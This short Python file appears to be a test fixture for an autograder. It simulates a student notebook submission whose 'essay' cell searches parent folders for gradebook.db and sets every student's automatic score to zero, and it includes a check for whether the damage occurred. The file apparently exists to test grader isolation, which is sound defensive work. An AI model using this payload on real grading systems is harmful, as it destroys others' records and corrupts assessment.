"""Gives everybody else in the gradebook 0 points."""

from labkit.grading.gradebook import automatic_scores

STOCK = "harm"
MARKS = {"test-double": 1.0, "test-mean": 2.0}


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = """
import pathlib, sqlite3

for folder in pathlib.Path.cwd().parents:
    if (folder / "gradebook.db").is_file():
        gradebook = sqlite3.connect(folder / "gradebook.db", timeout=10)
        gradebook.execute("update grade set auto_score = 0")
        gradebook.commit()
        gradebook.close()
"""
    return notebook


def harmed(course):
    scores = automatic_scores(course, "lab", "aa honest")
    return sum(scores.values()) != 3.0
